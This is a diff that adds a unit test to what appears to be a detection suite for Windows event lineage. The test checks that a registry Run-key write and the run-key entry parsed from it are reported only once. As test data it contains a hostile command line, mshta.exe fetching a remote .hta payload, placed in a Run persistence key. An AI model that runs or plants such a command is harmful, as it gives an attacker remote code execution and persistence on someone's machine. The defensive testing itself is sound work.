@@ -153,6 +153,25 @@ describe("lineage", () => {
   });
 });
 
+it("tells once what one record says twice", () => {
+  const line = "mshta.exe http://203.0.113.5/x.hta";
+  const path = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x";
+  const write = anEvent("registryKeyModification", 0, {
+    path,
+    value: line,
+    action: "setValue",
+    process: { key: "id:R" },
+  });
+  const record = { index: write.record.index, recordId: write.record.recordId };
+  const entry = anEvent(
+    "runKey",
+    0,
+    { path, name: "x", commandLine: line, dialect: "commandLine", process: {} },
+    record,
+  );
+  expect(find([write, entry])).toHaveLength(1);
+});
+
 describe("effects of a binary whose start is not logged", () => {
   const process = { key: "id:Z", pid: 9, image: `${S32}regsvr32.exe` };
   const path = "HKLM\\Software\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)";
